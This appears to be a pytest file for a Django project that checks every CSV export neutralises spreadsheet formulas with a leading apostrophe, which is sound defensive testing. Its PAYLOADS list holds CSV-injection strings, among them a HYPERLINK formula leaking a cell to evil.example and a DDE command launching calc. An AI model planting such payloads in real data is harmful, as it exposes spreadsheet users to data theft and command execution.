"""CSV formula neutralisation end to end: text a spreadsheet would run ('=HYPERLINK(...)',
'+cmd', '@SUM', '-1+2') stored in published stations, responses and sources comes out of every
CSV the project writes (each live CSV export of the registry, and each CSV of a release) with
a leading apostrophe, and unchanged in the JSON."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from stationwatch.export.formats import EXPORTS, FORMULA_START, LIVE
from stationwatch_web.atlas.models import Response, Station
from stationwatch_web.evidence.models import Source
from stationwatch_web.publish.services import publish

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-1+2", "\t=1", "\r=1"]


@pytest.fixture
def hostile(loaded):
    for i, s in enumerate(Station.objects.filter(published=True)):
        Station.objects.filter(pk=s.pk).update(
            region=PAYLOADS[i % len(PAYLOADS)], location_label=PAYLOADS[(i + 1) % len(PAYLOADS)])
    for i, r in enumerate(Response.objects.all()):
        Response.objects.filter(pk=r.pk).update(summary=PAYLOADS[i % len(PAYLOADS)],
                                                actor=PAYLOADS[(i + 2) % len(PAYLOADS)])
    for i, src in enumerate(Source.objects.all()):
        Source.objects.filter(pk=src.pk).update(title=PAYLOADS[i % len(PAYLOADS)],
                                                publisher=PAYLOADS[(i + 3) % len(PAYLOADS)])


def cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) > 1, "no rows to check"
    return [cell for row in rows[1:] for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutralised(text: str) -> None:
    """No cell starts like a formula, save numbers (a negative longitude stays a number)."""
    all_cells = cells(text)
    assert not [c for c in all_cells if c.startswith(FORMULA_START) and not is_number(c)]
    assert {"'" + p for p in PAYLOADS} & set(all_cells), "the payloads did not reach the file"


@pytest.mark.parametrize("name", [n for n in LIVE if EXPORTS[n].format == "csv"])
def test_live_csv_exports_neutralise_formulas(client, hostile, name):
    response = client.get(reverse("export", args=[name]))
    assert_neutralised(b"".join(response.streaming_content).decode("utf-8"))


def test_release_csvs_neutralise_formulas_and_json_keeps_the_text(hostile, tmp_path):
    out = publish(tmp_path / "site", allow_unreviewed=True).outdir
    for name, export in EXPORTS.items():
        if export.format == "csv":
            assert_neutralised((out / "data" / name).read_text("utf-8"))
    stations = json.loads((out / "data/stations.json").read_bytes())["stations"]
    assert {s["region"] for s in stations} <= set(PAYLOADS)
